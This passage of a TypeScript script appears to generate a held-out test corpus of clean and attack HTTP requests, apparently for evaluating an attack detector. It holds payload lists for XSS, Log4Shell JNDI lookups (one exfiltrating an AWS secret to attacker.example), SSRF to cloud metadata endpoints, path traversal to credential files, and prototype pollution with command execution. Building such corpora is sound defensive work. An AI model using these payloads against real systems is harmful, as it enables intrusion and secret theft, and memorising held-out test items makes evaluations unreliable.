    ['input onpointerenter', '<input autofocus onpointerenter=alert(1) style=display:block;width:100%>'],
  ];
  const extra: Carrier[] = [
    (f, t, p) =>
      addAttack(
        f,
        `${t}; review body`,
        'POST',
        '/jsonapi/reviews',
        {
          ...baseHeaders({ accept: 'application/vnd.api+json' }),
          'content-type': 'application/vnd.api+json',
        },
        JSON.stringify({ data: { type: 'reviews', attributes: { rating: 5, title: 'Love it', body: p } } }),
      ),
    (f, t, p) =>
      addAttack(
        f,
        `${t}; all-\\u-escaped JSON string`,
        'POST',
        '/api/service-alerts',
        jsonHeaders(),
        withRaw(
          { cause: 'CONSTRUCTION', header_text: { translation: [{ text: MARK, language: 'en' }] } },
          uEscapeAll(p),
        ),
      ),
  ];
  fill('xss', payloads, [...genericCarriers(), ...extra]);
}

function genLog4shell(): void {
  const payloads: Payload[] = [
    ['plain jndi ldap', '${jndi:ldap://203.0.113.7:1389/a}'],
    ['jndi rmi', '${jndi:rmi://198.51.100.4/Exploit}'],
    ['jndi dns exfil env', '${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.attacker.example/a}'],
    ['lower lookup obfuscation', '${${lower:j}ndi:${lower:l}dap://203.0.113.7/x}'],
    ['upper lookup obfuscation', '${${upper:j}${upper:n}di:ldap://203.0.113.7/x}'],
    [
      'default-value obfuscation',
      '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.7/x}',
    ],
    [
      'env default obfuscation',
      '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.7/y}',
    ],
    ['sys prop exfil', '${jndi:ldap://${sys:java.version}.203.0.113.7.nip.io/z}'],
    ['date lookup obfuscation', "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldaps://203.0.113.7/q}"],
    ['nested ctx lookup', '${jndi:${lower:l}${lower:d}a${lower:p}://${hostName}.callback.example/}'],
    ['iiop scheme', '${jndi:iiop://203.0.113.7/o}'],
    ['base64 lookup', '${base64:JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuNy9hfQ==}'],
    ['url-encoded dollar brace', '%24%7Bjndi:ldap://203.0.113.7/e%7D'],
    ['main lookup variant', '${jndi:ldap://127.0.0.1#evil.example:1389/${main:0}}'],
    ['k8s lookup exfil', '${jndi:ldap://${k8s:namespace}.203.0.113.7/k}'],
  ];
  const extra: Carrier[] = [
    (f, t, p) =>
      addAttack(f, `${t}; user-agent header`, 'GET', '/api/stops/1102/arrivals?minutes=30', {
        ...baseHeaders(),
        'user-agent': p,
      }),
    (f, t, p) =>
      addAttack(
        f,
        `${t}; x-forwarded-for header`,
        'GET',
        '/v1/lots/212/bids?limit=25',
        baseHeaders({ 'x-forwarded-for': p }),
      ),
    (f, t, p) =>
      addAttack(
        f,
        `${t}; referer header`,
        'GET',
        '/api/products?category=denim',
        baseHeaders({ referer: `https://shop.example/${p}` }),
      ),
  ];
  fill('log4shell', payloads, [...genericCarriers(), ...extra]);
}

function genSsrf(): void {
  const payloads: Payload[] = [
    ['AWS metadata', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
    [
      'GCP metadata',
      'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    ],
    ['decimal IP metadata', 'http://2852039166/latest/user-data'],
    ['hex IP metadata', 'http://0xa9fea9fe/latest/meta-data/'],
    ['IPv6-mapped loopback', 'http://[::ffff:127.0.0.1]:8080/admin'],
    ['userinfo confusion', 'https://cdn.shop.example@169.254.169.254/latest/meta-data/'],
    ['gopher to redis', 'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A'],
    ['file scheme', 'file:///etc/passwd'],
    ['localhost admin port', 'http://localhost:2375/containers/json'],
    ['short IP form', 'http://127.1/server-status'],
    ['octal IP', 'http://0177.0.0.1:9200/_cat/indices'],
    ['nip.io rebinding', 'http://169.254.169.254.nip.io/latest/meta-data/'],
    [
      'Azure IMDS',
      'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/',
    ],
    ['dict scheme', 'dict://127.0.0.1:11211/stat'],
    ['kubelet internal', 'https://10.0.0.1:10250/pods'],
  ];
  const extra: Carrier[] = [
    (f, t, p) =>
      addAttack(
        f,
        `${t}; webhook URL`,
        'POST',
        '/api/chatops/webhooks',
        jsonHeaders(),
        JSON.stringify({ name: 'inc-notify', url: p, events: ['incident.opened', 'incident.resolved'] }),
      ),
    (f, t, p) =>
      addAttack(
        f,
        `${t}; GTFS feed URL`,
        'PATCH',
        '/api/feeds/mta/config',
        jsonHeaders('application/json-patch+json'),
        JSON.stringify([{ op: 'replace', path: '/feeds/0/url', value: p }]),
      ),
    (f, t, p) =>
      addAttack(
        f,
        `${t}; import-from-URL`,
        'POST',
        '/v1/samplesheets/import',
        jsonHeaders(),
        JSON.stringify({ source: { type: 'url', location: p }, project: 'RNASEQ-Q4' }),
      ),
    (f, t, p) =>
      addAttack(
        f,
        `${t}; image URL query string`,
        'GET',
        `/api/lots/212/image-proxy?${qs({ src: p, w: 600 })}`,
        baseHeaders(),
      ),
  ];
  fill('ssrf', payloads, [...extra, ...genericCarriers()]);
}

function genPathTraversal(): void {
  const payloads: Payload[] = [
    ['dot-dot-slash', '../../../../etc/passwd'],
    ['url-encoded', '..%2f..%2f..%2f..%2fetc%2fshadow'],
    ['double url-encoded', '..%252f..%252f..%252fetc%252fpasswd'],
    ['backslash windows', '..\\..\\..\\windows\\win.ini'],
    ['overlong utf-8', '..%c0%af..%c0%af..%c0%afetc/passwd'],
    ['dot-dot-dot-slash filter bypass', '....//....//....//etc/hosts'],
    ['absolute path', '/etc/kubernetes/admin.conf'],
    ['null byte truncation', '../../../../etc/passwd%00.csv'],
    ['proc self environ', '../../../../proc/self/environ'],
    ['k8s service account token', '../../../../var/run/secrets/kubernetes.io/serviceaccount/token'],
    ['ssh key', '../../../root/.ssh/id_rsa'],
    ['mixed separators', '..\\/..\\/..\\/etc/passwd'],
    ['encoded dots', '%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/group'],
    ['unicode full-width dots', '%uff0e%uff0e/%uff0e%uff0e/etc/passwd'],
    ['app config', '../../../app/.env'],
  ];
  const extra: Carrier[] = [
    (f, t, p) =>
      addAttack(
        f,
        `${t}; file path in JSON`,
        'POST',
        '/v1/runs',
        jsonHeaders(),
        JSON.stringify({ pipeline: 'nf-core/rnaseq', params: { input: p, outdir: 's3://results/rnaseq/' } }),
      ),
    (f, t, p) =>
      addAttack(
        f,
        `${t}; download query param`,
        'GET',
        `/api/incidents/INC-2291/attachments/download?${qs({ file: p })}`,
        baseHeaders(),
      ),
    (f, t, p) => addAttack(f, `${t}; raw path segment`, 'GET', `/api/gtfs/static/${p}`, baseHeaders()),
    (f, t, p) =>
      addAttack(
        f,
        `${t}; multipart filename`,
        'POST',
        '/v1/samplesheets',
        baseHeaders({ 'content-type': 'multipart/form-data; boundary=----h25b' }),
        `------h25b\r\nContent-Disposition: form-data; name="sheet"; filename="${p}"\r\nContent-Type: text/csv\r\n\r\nsample,fastq_1\nS1,a.fq.gz\r\n------h25b--\r\n`,
      ),
  ];
  fill('path-traversal', payloads, [...extra, ...genericCarriers()]);
}

function genPrototypePollution(): void {
  const bodies: Payload[] = [
    ['__proto__ top-level key', '{"__proto__":{"isAdmin":true},"displayName":"Kwame"}'],
    ['constructor.prototype', '{"constructor":{"prototype":{"role":"admin"}},"preferredName":"Bea"}'],
    ['nested __proto__', '{"profile":{"sizeProfile":{"__proto__":{"polluted":"yes"}}}}'],
    ['__proto__ in array element', '{"items":[{"sku":"DRS-1","qty":1},{"__proto__":{"shell":"/bin/sh"}}]}'],
    ['\\u-escaped __proto__ key', '{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}'],
    ['partially escaped proto key', '{"__pro\\u0074o__":{"allowedHosts":["*"]}}'],
    ['json-patch path to __proto__', '[{"op":"add","path":"/__proto__/isAdmin","value":true}]'],
    [
      'json-patch constructor path',
      '[{"op":"replace","path":"/constructor/prototype/role","value":"admin"}]',
    ],
    [
      'merge-patch __proto__',
      '{"labels":{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}}',
    ],
    ['dotted key path', '{"set":{"__proto__.isAdmin":true}}'],
    ['constructor.prototype dotted', '{"path":"constructor.prototype.debug","value":true}'],
    [
      'GraphQL variable __proto__',
      '{"query":"mutation U($p: JSON) { updateProfile(patch: $p) { ok } }","variables":{"p":{"__proto__":{"isAdmin":true}}}}',
    ],
    ['JSON inside string', JSON.stringify({ settings: '{"__proto__":{"isAdmin":true}}' })],
    [
      'deep constructor chain',
      '{"a":{"b":{"constructor":{"prototype":{"execArgv":["--eval=require(\'child_process\').execSync(\'id\')"]}}}}}',
    ],
    [
      'base64 body field',
      JSON.stringify({ configB64: b64('{"__proto__":{"polluted":true}}'), encoding: 'base64' }),
    ],
  ];
  const qsPaths: Payload[] = [
    ['query string __proto__ bracket', '/api/products?__proto__[isAdmin]=true&category=denim'],
    ['query string constructor.prototype', '/api/stops/1102/arrivals?constructor[prototype][polluted]=1'],
    ['query string dotted __proto__', '/v1/runs?__proto__.status=admin'],
    ['query string encoded __proto__', '/v1/lots?%5F%5Fproto%5F%5F%5Bowner%5D=me'],
  ];
  const bodyTargets: Array<[string, string, string]> = [
    ['PATCH', '/api/users/me/profile', 'application/merge-patch+json'],
    ['POST', '/api/returns', 'application/json'],
    ['PUT', '/v1/runs/settings', 'application/json'],
    ['POST', '/graphql', 'application/json'],
    ['PATCH', '/api/feeds/mta/config', 'application/json-patch+json'],
  ];
  for (let i = 0; i < 30; i++) {
    if (i % 5 === 4 && Math.floor(i / 5) < qsPaths.length) {
      const q = qsPaths[Math.floor(i / 5)] as Payload;
      addAttack('prototype-pollution', q[0], 'GET', q[1], baseHeaders());
      continue;
    }
    const b = bodies[i % bodies.length] as Payload;
    let target = bodyTargets[i % bodyTargets.length] as [string, string, string];
    if (b[0].startsWith('json-patch'))
      target = ['PATCH', '/api/feeds/mta/config', 'application/json-patch+json'];
    else if (b[0].startsWith('GraphQL')) target = ['POST', '/graphql', 'application/json'];
    else if (target[2] === 'application/json-patch+json' || target[1] === '/graphql')
      target = ['POST', '/api/returns', 'application/json'];
    addAttack('prototype-pollution', b[0], target[0], target[1], jsonHeaders(target[2]), b[1]);
  }
}

genRestGet();
genRestWrite();
genMergePatch();
genJsonPatch();
genJsonApi();
genGraphql();
genForm();
genMultipart();
genNdjson();
genDelete();
genCmsHtml();
genCode();
genProse();
genSearch();

genSql();
genNosql();
genTemplate();
genCommand();
genXss();
genLog4shell();
genSsrf();
genPathTraversal();
genPrototypePollution();

/** Held-out corpus 25: clean traffic and attacks across nine families, generated deterministically. */
export const heldout25: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

function countBy(xs: readonly CorpusRequest[], key: (r: CorpusRequest) => string): Record<string, number> {
  const out: Record<string, number> = {};
  for (const x of xs) out[key(x)] = (out[key(x)] ?? 0) + 1;
  return out;
}

if (process.argv[1] !== undefined && fileURLToPath(import.meta.url) === process.argv[1]) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout25.json'), `${JSON.stringify(clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout25.json'), `${JSON.stringify(attacks, null, 2)}\n`);
  console.log(
    `clean: ${clean.length}`,
    countBy(clean, (r) => r.kind),
  );
  console.log(
    `attacks: ${attacks.length}`,
    countBy(attacks, (r) => r.family ?? '?'),
  );
}
